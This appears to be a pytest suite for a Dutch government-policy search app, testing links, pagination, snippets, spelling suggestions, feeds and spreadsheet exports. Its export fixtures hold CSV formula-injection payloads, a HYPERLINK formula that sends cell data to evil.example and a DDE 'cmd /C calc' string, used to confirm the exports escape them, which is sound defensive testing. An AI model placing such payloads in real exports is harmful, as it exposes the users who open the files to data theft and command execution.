"""What a new user hits (issue 15), through Flask's test client on both search backends: links that work without
the source sites, no dead ends, readable snippets and exports, pages that explain themselves."""
import re
from html import unescape
from urllib.parse import parse_qsl, urlsplit

import pytest


def first_hit(client, q="schuldhulpverlening"):
    return client.get("/api/search", query_string={"q": q}).get_json()["results"][0]


def links(html: str, cls: str) -> list[str]:
    return [unescape(h) for h in re.findall(rf'<p class="{cls}">.*?<a href="([^"]+)"', html, flags=re.S)]


# -- 1. links that work after `make run`: the app's own copy, anchored per passage

def test_best_passage_links_to_the_apps_own_copy_with_the_source_beside_it(client):
    html = client.get("/zoeken?q=schuldhulpverlening").get_data(as_text=True)
    passage = re.search(r'<p class="passage">Beste passage: <a href="([^"]+)">.*?<a href="([^"]+)"', html, re.S)
    own, source = unescape(passage.group(1)), unescape(passage.group(2))
    assert own.startswith("/document/") and "#" in own
    assert source.startswith("http://127.0.0.1:") and source.split("#")[1] == own.split("#")[1]
    page = client.get(own.split("#")[0]).get_data(as_text=True)
    assert f'id="{own.split("#")[1]}"' in page     # the anchor exists on the document page


def test_document_page_has_one_anchor_per_passage_and_keeps_all_text(client):
    hit = first_hit(client)
    html = client.get(f"/document/{hit['id']}").get_data(as_text=True)
    ids = re.findall(r'<section class="passage-text" id="([^"]+)"', html)
    assert len(ids) > 5 and len(ids) == len(set(ids)) and "artikel-1" in ids
    assert 'href="#artikel-1"' in html          # a table of contents to the passages
    assert "Artikel 1" in html and "ophaalde" in html   # the stored copy says what it is



def test_the_first_article_of_a_chapter_can_be_linked_to_by_its_article_anchor():
    """A chapter's first article shares the chapter's passage ('Hoofdstuk IV – De burgemeester – Artikel 61',
    anchor hoofdstuk-iv): a citation of artikel 61 links to #artikel-61, so that anchor is on the page as well,
    once, and never where the passage's own anchor already is that article's."""
    import json
    from search_app.sections import sections
    body = "Hoofdstuk IV – De burgemeester – Artikel 61\n\nDe burgemeester wordt benoemd.\n\nArtikel 62\n\nTekst."
    first = "Hoofdstuk IV – De burgemeester – Artikel 61"
    passages = [["hoofdstuk-iv", first, 0, body.index("\n\nArtikel 62")],
                ["artikel-62", "Artikel 62", body.index("Artikel 62"), len(body)]]
    out = sections(body, json.dumps(passages))
    assert [(s.anchor, s.article_anchor) for s in out] == [("hoofdstuk-iv", "artikel-61"), ("artikel-62", "")]


# -- 4. dead ends

@pytest.mark.parametrize("pagina", ["50", "9999", "99999999", "0", "-1"])
def test_any_page_number_keeps_the_query_and_shows_results(client, pagina):
    r = client.get(f"/zoeken?q=schuldhulpverlening&pagina={pagina}")
    html = r.get_data(as_text=True)
    assert r.status_code == 200 and re.search(r'<li class="hit">', html)
    assert 'value="schuldhulpverlening"' in html
    api = client.get(f"/api/search?q=schuldhulpverlening&pagina={pagina}").get_json()
    assert api["results"] and 1 <= api["page"] <= api["pages"]


def test_a_bad_parameter_page_keeps_the_query_in_a_search_box(client):
    r = client.get("/zoeken?q=jeugdzorg&sort=random")
    html = r.get_data(as_text=True)
    assert r.status_code == 400 and "Ongeldige zoekopdracht" in html
    main = html.split('<main', 1)[1]
    assert re.search(r'<form class="search again"[^>]*>.*value="jeugdzorg"', main, re.S)
    assert 'id="q-top" type="search" name="q" value="jeugdzorg"' in html


def test_document_page_remembers_the_search_and_leads_back_to_it(client):
    html = client.get("/zoeken?q=schuldhulpverlening&type=wet&pagina=1").get_data(as_text=True)
    doc_link = unescape(re.search(r'<li class="hit">\s*<h2><a href="([^"]+)"', html).group(1))
    page = client.get(doc_link).get_data(as_text=True)
    assert 'id="q-top" type="search" name="q" value="schuldhulpverlening"' in page
    back = unescape(re.search(r'<p class="back"><a href="([^"]+)"', page).group(1))
    assert urlsplit(back).path == "/zoeken"
    assert sorted(parse_qsl(urlsplit(back).query)) == [("pagina", "1"), ("q", "schuldhulpverlening"), ("type", "wet")]


def test_document_page_ignores_foreign_parameters_in_the_remembered_search(client):
    hit = first_hit(client)
    page = client.get(f"/document/{hit['id']}", query_string={"zoek": "q=wonen&evil=1&next=http://x"})
    back = unescape(re.search(r'<p class="back"><a href="([^"]+)"', page.get_data(as_text=True)).group(1))
    assert back == "/zoeken?q=wonen"


# -- 10. small ones

def test_there_is_a_favicon(client):
    html = client.get("/").get_data(as_text=True)
    icon = re.search(r'<link rel="icon"[^>]*href="([^"]+)"', html).group(1)
    assert client.get(icon).status_code == 200
    r = client.get("/favicon.ico")
    assert r.status_code == 200 and b"<svg" in r.data


# -- 9. compare and coverage read like pages for people

@pytest.fixture()
def full_client(corpus_data):
    from search_app import create_app
    data, _ = corpus_data
    return create_app({"TESTING": True, "INDEX_DIR": str(data / "index"),
                       "STORE_PATH": str(data / "crawl.sqlite3")}).test_client()


def test_compare_lists_organisations_alphabetically_with_counts_and_a_styled_button(full_client):
    html = full_client.get("/vergelijk").get_data(as_text=True)
    orgs = re.findall(r'name="gemeente" value="[^"]+"> ([^<]+?) <span class="count">\((\d+)\)</span>', html)
    names = [o for o, _ in orgs]
    assert len(orgs) >= 5 and all(int(n) > 0 for _, n in orgs)
    key = [re.sub(r"^(Gemeente|Provincie|Ministerie van) ", "", n).casefold() for n in names]
    assert key == sorted(key)
    assert '<button class="primary" type="submit">Vergelijk</button>' in html
    # with a query, the counts are those of the query
    q = full_client.get("/vergelijk?q=schuldhulpverlening").get_data(as_text=True)
    counts = dict(re.findall(r'value="[^"]+"> ([^<]+?) <span class="count">\((\d+)\)', q))
    assert counts["Rijksoverheid"] != dict(orgs)["Rijksoverheid"] and "passende" in q


def test_coverage_names_sources_and_explains_every_reason_and_error(full_client):
    html = full_client.get("/dekking").get_data(as_text=True)
    rows = re.findall(r'<th scope="row">(.*?)</th>', html, re.S)
    assert any(r.startswith("Wet- en regelgeving") for r in rows)          # the site's title, not 'wetten'
    assert not any(r.startswith(("wetten", "verordeningen")) for r in rows)
    items = re.findall(r"<li>\d+ × ([^<]+)</li>", html)
    assert items and not {"error", "noindex", "redirect", "robots", "HTTP 404"} & set(items)
    assert any("dode link" in i for i in items)                             # what a 404 is
    assert 'class="table-scroll"' in html


def test_coverage_counts_a_failed_page_once(corpus_data, full_client):
    from store.crawl_store import CrawlStore
    rows = {r["site"]: r for r in CrawlStore(corpus_data[0] / "crawl.sqlite3", readonly=True).coverage()}
    html = full_client.get("/dekking").get_data(as_text=True)
    for tr in re.findall(r"<tr>\s*<th scope=\"row\">.*?</tr>", html, re.S):
        known, indexed, skipped, errors = (int(n) for n in re.findall(r"<td>(\d+)", tr)[:4])
        assert indexed + skipped + errors <= known, tr
        listed = [int(n) for n in re.findall(r"<li>(\d+) ×", tr.split("<td>")[3])]
        assert sum(listed) == skipped
    # the store does have failed pages (dead links are tombstoned as gone in the run that meets them)
    assert any(r["skip_reasons"].get("error") or r["skip_reasons"].get("gone") for r in rows.values())


# -- 2. snippets: no title again, no conversion residue

COMMON_QUERIES = ["schuldhulpverlening", "woning", "jeugdzorg", "participatie", "algoritme", "bijstand", "gemeente",
                  "subsidie", "privacy", "huisvesting", "bezwaar", "beleidsregels", "verordening", "risico",
                  "toezicht", "data", "wmo", "jeugdhulp", "uitkering", "bias", "transparantie", "inkomen",
                  "maatschappelijke ondersteuning", "persoonsgegevens", "handhaving"]
RESIDUE = {"attribute list": re.compile(r"\{\s*[.#:][\w-]"), "bold": re.compile(r"\*\*"),
           "table pipes": re.compile(r"\|\s*:?-{3,}"), "bare URL": re.compile(r"https?://"),
           "entity": re.compile(r"&#x?[0-9a-f]+;|&quot;|&apos;", re.I), "markdown link": re.compile(r"\]\s?\(")}


def plain(html: str) -> str:
    return " ".join(re.sub(r"</?mark>", "", html).replace("…", " ").split())


def starts_with_title(hit) -> bool:
    """The snippet opens with the title as a label of its own (followed by a separator, a new capitalised
    heading or sentence, or nothing), not as the subject of a sentence ('Wmo-voorspelmodel geeft …')."""
    title, text = " ".join(hit["title"].split())[:60], plain(hit["snippet"])
    if len(title) < 4 or not text.casefold().startswith(title.casefold()):
        return False
    rest = text[len(title):].lstrip()
    return not rest or rest[0] in "–-:|·" or rest[0].isupper()


def test_no_snippet_starts_by_repeating_the_title_and_none_carries_residue(client):
    hits = [h for q in COMMON_QUERIES for h in client.get("/api/search", query_string={"q": q, "per_pagina": 20})
            .get_json()["results"]]
    assert len(hits) > 200
    repeating = [(h["title"], h["snippet"][:80]) for h in hits if starts_with_title(h)]
    assert repeating == [], f"{len(repeating)} of {len(hits)} snippets start with the title"
    for kind, pattern in RESIDUE.items():
        bad = [h["snippet"] for h in hits if pattern.search(h["snippet"])]
        assert bad == [], f"{kind}: {bad[:2]}"
    headings = [(h["passage"], h["title"]) for h in hits if h["passage"]]
    assert headings and not [p for p, t in headings if p.casefold().startswith(t.casefold()[:40])]


@pytest.mark.parametrize("source", ["laws", "algoritmekader", "algoritmeregister", "regelrecht"])
def test_extraction_leaves_no_markup_residue_in_the_bundled_sources(source):
    """Every page of each bundled source (the laws: those the tests index plus the ones with irregular tables and
    links with parentheses), rendered and extracted as the crawler does."""
    from conftest import TEST_LAWS
    from crawler.extract import extract_html
    from mirror.render import page_html
    from mirror.sources import SOURCES, law_pages
    irregular = {"BWBR0005108", "BWBR0015158", "BWBR0005662", "BWBR0023289", "BWBR0021607", "BWBR0029324"}
    pages = list(law_pages(only=TEST_LAWS | irregular) if source == "laws" else SOURCES[source]())
    found: dict[str, list[str]] = {}
    for p in pages:
        text = extract_html(page_html(p, "http://127.0.0.1:8100/", "t").encode(), "http://127.0.0.1:8100/" + p.path,
                            "utf-8").text
        for kind in ("attribute list", "bold", "table pipes", "markdown link"):
            m = RESIDUE[kind].search(text)
            if m:
                found.setdefault(kind, []).append(f"{p.path}: …{text[max(0, m.start() - 40):m.end() + 40]}…")
    assert len(pages) > 10 and found == {}


def test_a_heading_repeating_the_page_title_is_kept_once():
    from crawler.extract import extract_html
    html = ("<html><body><main><h1>Bias en non-discriminatie</h1><h1>Bias en non-discriminatie</h1>"
            "<p>Tekst over bias.</p></main></body></html>").encode()
    ex = extract_html(html, "http://t.nl/", "utf-8")
    assert [p.heading for p in ex.passages] == ["Bias en non-discriminatie"]
    assert ex.text.count("Bias en non-discriminatie") == 1


def test_a_long_title_is_cut_at_a_word_with_an_ellipsis():
    from crawler.extract import TITLE_CHARS, extract_html
    title = "Besluit " + "houdende regels inzake de gemeentelijke schuldhulpverlening " * 20
    ex = extract_html(f"<html><head><title>{title}</title></head><body><main><p>x y z</p></main></body></html>"
                      .encode(), "http://t.nl/", "utf-8")
    assert len(ex.title) <= TITLE_CHARS and ex.title.endswith("…")
    assert title.startswith(ex.title[:-1]) and title[len(ex.title) - 1] == " "   # cut before a space: whole words


# -- 8. exports for Dutch spreadsheets

@pytest.fixture()
def formula_client(tmp_path):
    """An index whose titles and organisations start like spreadsheet formulas, and one with an ë."""
    from store.crawl_store import CrawlStore
    from indexer.build import IndexLocation, build_index
    from search_app import create_app
    store = CrawlStore(tmp_path / "crawl.sqlite3")
    titles = ['=HYPERLINK("http://evil.example/?x="&A1;"klik")', "+31 beleid", "-2+3 notitie", "@SUM(A1:A2)",
              "Coördinatie van het woonbeleid"]
    for i, title in enumerate(titles):
        store.record_content(run_id=None, site="t", url=f"http://t.nl/{i}", status=200, content_type="text/html",
                             body=f"doc {i}".encode(), indexable=True,
                             extract={"title": title, "text": f"Woonbeleid en huurwoningen {i}",
                                      "meta": {"organisation": "=cmd|' /C calc'!A0" if i == 0 else "Gemeente Tilburg"}})
    build_index(store, IndexLocation(tmp_path / "index"), progress=False)
    return create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "index")}).test_client()


FORMULA = ("=", "+", "-", "@")


def test_the_excel_csv_is_semicolon_separated_utf8_with_bom_dutch_and_named_after_the_search(formula_client):
    import csv
    import io
    from datetime import datetime, timezone
    r = formula_client.get("/export.csv?q=woonbeleid&voor=excel")
    assert r.status_code == 200 and r.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:5] == ["Titel", "Organisatie", "Soort document", "Datum", "Thema's"]
    assert "Link in Beleidszoeker" in rows[0] and len(rows) == 6
    assert any(row[0] == "Coördinatie van het woonbeleid" for row in rows)
    link = rows[1][rows[0].index("Link in Beleidszoeker")]
    assert link.startswith("http://localhost/document/")
    today = datetime.now(timezone.utc).date().isoformat()
    assert f'filename="beleidszoeker-woonbeleid-{today}.csv"' in r.headers["Content-Disposition"]


def test_no_export_cell_can_run_as_a_formula(formula_client):
    import csv
    import io
    plain = list(csv.reader(io.StringIO(formula_client.get("/export.csv?q=woonbeleid").get_data(as_text=True))))
    excel = list(csv.reader(io.StringIO(formula_client.get("/export.csv?q=woonbeleid&voor=excel").data
                                        .decode("utf-8-sig")), delimiter=";"))
    for rows in (plain, excel):
        cells = [c for row in rows[1:] for c in row]
        assert not [c for c in cells if c.startswith(FORMULA)]
        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")" in cells and "'+31 beleid" in cells
    assert plain[0] == ["id", "url", "title", "organisation", "type", "date", "themes", "score", "identifier"]


def test_the_xlsx_export_holds_the_titles_as_text(formula_client):
    import io
    import openpyxl
    r = formula_client.get("/export.xlsx?q=woonbeleid")
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    assert ".xlsx" in r.headers["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(r.data)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "Titel" and len(rows) == 6
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type == "s" for c in cells if c.value is not None)   # no formula cells
    assert '=HYPERLINK("http://evil.example/?x="&A1;"klik")' in [c.value for c in cells]


def test_the_results_page_offers_the_excel_form_beside_the_plain_csv(client):
    html = client.get("/zoeken?q=woning").get_data(as_text=True)
    assert "voor=excel" in html and "/export.xlsx?q=woning" in html and "/export.csv?q=woning" in html


# -- 7. dates: the year facet and the feed

def year_facet(html: str) -> list[str]:
    return re.findall(r'data-facet="jaar" data-value="([^"]+)"', html)


def test_the_year_facet_is_chronological_newest_first_with_unknown_last(client):
    years = year_facet(client.get("/zoeken?q=gemeente").get_data(as_text=True))
    known = [y for y in years if y.isdigit()]
    assert len(known) > 5 and known == sorted(known, reverse=True)
    assert "onbekend" in years and years[-1] == "onbekend"


def test_a_year_range_filters_and_shows_as_one_removable_chip(client):
    everything = client.get("/api/search?q=gemeente").get_json()
    ranged = client.get("/api/search?q=gemeente&jaar_van=2010&jaar_tot=2019").get_json()
    assert 0 < ranged["total"] < everything["total"]
    assert all("2010" <= (r["date"] or "")[:4] <= "2019" for r in ranged["results"])
    assert client.get("/api/search?q=gemeente&jaar_van=2019&jaar_tot=2010").get_json()["total"] == ranged["total"]
    html = client.get("/zoeken?q=gemeente&jaar_van=2010&jaar_tot=2019").get_data(as_text=True)
    chip = re.search(r'<a class="chip" href="([^"]+)"[^>]*>Jaar 2010–2019', html)
    assert chip and unescape(chip.group(1)) == "/zoeken?q=gemeente"
    assert 'name="jaar_van"' in html and 'value="2010"' in html
    assert client.get("/zoeken?q=gemeente&jaar_van=abc").status_code == 400
    assert "Jaar vanaf 2015" in client.get("/zoeken?q=gemeente&jaar_van=2015").get_data(as_text=True)


def test_feed_entries_carry_the_documents_own_date_and_a_snippet_summary(corpus_data):
    import feedparser
    from search_app import create_app
    data, _ = corpus_data
    c = create_app({"TESTING": True, "INDEX_DIR": str(data / "index"),
                    "STORE_PATH": str(data / "crawl.sqlite3")}).test_client()
    feed = feedparser.parse(c.get("/zoeken.atom?q=schuldhulpverlening").get_data(as_text=True))
    law = next(e for e in feed.entries if "9 februari 2012" in e.title)
    assert law.updated.startswith("2012-02-09") and law.published.startswith("2012-02-09")
    assert "schuldhulpverlening" in law.summary.lower() and "<mark>" not in law.summary
    assert law.link.startswith("http://localhost/document/")          # the app's copy, the source as 'via'
    assert any(link.rel == "via" and link.href.startswith("http://127.0.0.1:") for link in law.links)
    # a first crawl does not make every document look new today
    assert len({e.updated[:10] for e in feed.entries}) > 1


def test_entry_times_prefer_a_change_the_crawler_saw_over_the_documents_date():
    from search_app.feeds import entry_times
    first = [("h1", "2026-01-01T00:00:00+00:00")]
    changed = first + [("h2", "2026-03-04T05:06:07+00:00")]
    assert entry_times("2012-02-09", "2026-01-01T00:00:00Z", first) == ("2012-02-09T00:00:00Z", "2012-02-09T00:00:00Z")
    assert entry_times("2012-02-09", "2026-03-04T05:06:07Z", changed) == ("2012-02-09T00:00:00Z", "2026-03-04T05:06:07Z")
    assert entry_times("", "2026-01-01T00:00:00Z", first) == ("", "2026-01-01T00:00:00Z")


# -- 10. the same label everywhere

def test_facet_values_and_chips_are_capitalised_alike_also_under_meer(client):
    html = client.get("/zoeken?q=gemeente&type=wet").get_data(as_text=True)
    chip = re.search(r'<a class="chip"[^>]*>([^<]+?) <span', html).group(1)
    facet = re.search(r'class="selected" aria-current="true" data-facet="type" data-value="wet">\s*'
                      r'<span class="box"[^>]*>[^<]*</span>([^<]+)<', html).group(1)
    assert chip == facet == "Wet"
    html = client.get("/zoeken?q=wet").get_data(as_text=True)      # 17 years: two of them under "Meer"
    more = [part.split("</details>")[0] for part in html.split("<summary>Meer")[1:]]
    labels = [label.strip() for m in more for label in re.findall(r'</span>([^<]+)<span class="count">', m)]
    assert "Onbekend" in labels and all(label[:1] == label[:1].upper() for label in labels)


def test_the_trend_chart_has_axis_labels_and_round_ticks():
    from search_app.charts import bar_chart_svg
    svg = bar_chart_svg([("2019", 7), ("2020", 3), ("2021", 0)], "Documenten per jaar")
    ticks = [int(t) for t in re.findall(r'class="tick">(\d+)</text>', svg) if len(t) < 4]
    assert ticks == [0, 2, 4, 6, 8]                     # not 0, 3, 7
    labels = re.findall(r'class="axis-label"[^>]*>([^<]+)<', svg)
    assert labels == ["Jaar", "Aantal documenten"]


def test_the_theme_page_chart_is_labelled(full_client):
    html = full_client.get("/thema/schulden-en-armoede").get_data(as_text=True)
    assert 'class="axis-label"' in html and "Aantal documenten" in html


# -- 3. misspellings

def test_a_misspelt_word_gets_a_suggestion_even_when_its_parts_find_something(client):
    data = client.get("/api/search?q=schuldhulpverlenig").get_json()
    assert data["total"] > 0 and data["suggestion"] == "schuldhulpverlening"
    assert any("‘schuldhulpverlenig’" in n and "geen enkel document" in n for n in data["notices"])
    html = client.get("/zoeken?q=schuldhulpverlenig").get_data(as_text=True)
    assert "Bedoelde u" in html and "geen enkel document" in html


def test_a_misspelt_compound_without_results_gets_a_suggestion(client):
    data = client.get("/api/search?q=bestemingsplan").get_json()
    assert data["suggestion"] == "bestemmingsplan"


def test_correct_and_rare_but_real_words_are_left_alone(client):
    for q in ("schuldhulpverlening", "Veere", "participatie", "Jeugdwet"):
        data = client.get("/api/search", query_string={"q": q}).get_json()
        assert data["suggestion"] is None and not any("geen enkel document" in n for n in data["notices"]), q


def test_the_suggestion_rule():
    from search.spelling import correction, suggest
    assert correction("schuldhulpverlenig", 0, [("schuldhulpverlening", 55)], few_results=False) == "schuldhulpverlening"
    assert correction("schuldhulpverlenig", 2, [("schuldhulpverlening", 55)], few_results=False) == "schuldhulpverlening"
    assert correction("schuldhulpverlenig", 2, [("schuldhulpverlening", 12)], few_results=False) == ""  # not 10× as many
    assert correction("veere", 1, [("veel", 900)], few_results=False) == ""        # a short real word: a name
    assert correction("woningbow", 1, [("woningbouw", 40)], few_results=True) == "woningbouw"
    assert correction("schuldhulpverlenig", 0, [("schuldhulpverlener", 90), ("schuldhulpverlening", 55)],
                      few_results=False) == "schuldhulpverlening"            # one edit away beats more frequent
    # two neighbouring letters swapped are one edit: a word some document holds with the same slip is corrected
    assert correction("woningbouwprgoramma", 1, [("woningbouwprogramma", 40)],
                      few_results=False) == "woningbouwprogramma"
    assert correction("woningbouwprgoramma", 1, [("woningbouwprogrammas", 400)], few_results=False) == ""   # two edits
    assert correction("beleidsnotaa", 0, [("beleidsnota", 30), ("beleidsnotas", 90)],
                      few_results=False) == "beleidsnotas"                     # equally near: the more frequent
    assert suggest(["wonen", "xqzt"], 10, lambda w: {"wonen": 50}.get(w, 0), lambda w: []) == ("", ["xqzt"])


def test_near_words_are_what_whooshs_corrector_finds_without_its_cost():
    """The look-up keeps Whoosh's answer (the most frequent words within two edits, the word itself included) while
    skipping words whose length alone is too far off; checked against Whoosh's own corrector on a real index."""
    from whoosh.fields import KEYWORD, Schema
    from whoosh.filedb.filestore import RamStorage
    from search.spelling import near_words
    counts = {"schuldhulpverlening": 9, "schuldhulpverlener": 4, "schuldhulpverleningen": 7, "schuldsanering": 5,
              "schuldhulp": 8, "schuldhulpverlenig": 1, "schuldhulpverleninq": 1, "scholing": 3}
    ix = RamStorage().create_index(Schema(spell=KEYWORD(scorable=False)))
    with ix.writer() as w:
        for word, n in counts.items():
            for _ in range(n):
                w.add_document(spell=word)
    with ix.searcher() as s:
        reader = s.reader()
        for word in ("schuldhulpverlenig", "schuldhulpverlening", "schuldhulpverlen", "scholingen", "schuld"):
            vocabulary = (b.decode() for b in reader.expand_prefix("spell", word[:2]))
            mine = near_words(word, vocabulary, lambda o: reader.frequency("spell", o))
            assert mine == s.suggest("spell", word, limit=5, maxdist=2, prefix=2), word
    assert near_words("schuldhulpverlenig", counts, counts.get) == [
        "schuldhulpverlening", "schuldhulpverlener", "schuldhulpverlenig", "schuldhulpverleninq"]  # most frequent first
    assert near_words("schuld", counts, counts.get) == []   # schuldhulp: four letters more is four edits


def test_the_bit_parallel_distance_is_whooshs_damerau_levenshtein():
    """distance_to (bit-parallel) against Whoosh's table: random words of few letters (many repeats and
    transpositions), and pairs of Dutch words."""
    import random
    from whoosh.support.levenshtein import damerau_levenshtein
    from search.spelling import distance_to
    rng = random.Random(12)
    pairs = [("".join(rng.choice("abcd") for _ in range(rng.randint(0, 8))),
              "".join(rng.choice("abcd") for _ in range(rng.randint(0, 8)))) for _ in range(20_000)]
    pairs += [("schuldhulpverlening", "schuldhulpverlenign"), ("woningbouw", "wonignbouw"), ("ab", "ba"),
              ("ca", "abc"), ("", "abc"), ("huurtoeslag", ""), ("zorg", "zorg"), ("jeugdhulp", "jeugdzorg")]
    for a, b in pairs:
        assert distance_to(a)(b) == damerau_levenshtein(a, b), (a, b)


def test_near_words_are_only_looked_up_for_a_word_that_may_be_corrected():
    from search.spelling import suggest
    asked = []

    def near(word):
        asked.append(word)
        return [("woningbouw", 40)]
    df = {"woningbouw": 40, "participatie": 300, "veere": 1}.get
    assert suggest(["woningbow", "participatie", "veere"], 3, lambda w: df(w, 0), near) == (
        "woningbouw participatie veere", ["woningbow"])
    assert asked == ["woningbow"]   # a frequent word and a short rare name are not looked up


# -- 1. `make run` keeps the demo's sources up while it serves

def _free_port() -> int:
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_make_run_serves_the_mirror_sites_while_the_app_runs(tmp_path, corpus_data):
    import subprocess
    import sys
    import time
    from pathlib import Path

    import requests
    repo = Path(__file__).resolve().parent.parent
    mirror_port, app_port = _free_port(), _free_port()
    sites = tmp_path / "sites.toml"
    sites.write_text(f'[[site]]\nname = "verordeningen"\ntitle = "Verordeningen (lokale spiegel)"\ngroup = "mirror"\n'
                     f'mirror = "regelrecht"\nstart = ["http://127.0.0.1:{mirror_port}/"]\n'
                     f'allow = ["http://127.0.0.1:{mirror_port}/"]\norganisation = "Gemeente"\n')
    assert "serve --with-mirrors" in (repo / "Makefile").read_text()     # what `make run` runs
    proc = subprocess.Popen([sys.executable, str(repo / "run.py"), "--data", str(tmp_path / "data"),
                             "--index", str(corpus_data[0] / "index"), "--sites-file", str(sites), "serve",
                             "--with-mirrors", "--port", str(app_port), "--workers", "1"],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                if requests.get(f"http://127.0.0.1:{app_port}/", timeout=1).status_code == 200:
                    break
            except requests.ConnectionError:
                time.sleep(0.3)
        else:
            pytest.fail("the app did not start: " + proc.stdout.read1().decode(errors="replace"))
        mirror = requests.get(f"http://127.0.0.1:{mirror_port}/robots.txt", timeout=5)
        assert mirror.status_code == 200                                # the source site answers too
    finally:
        proc.terminate()
        proc.wait(timeout=20)
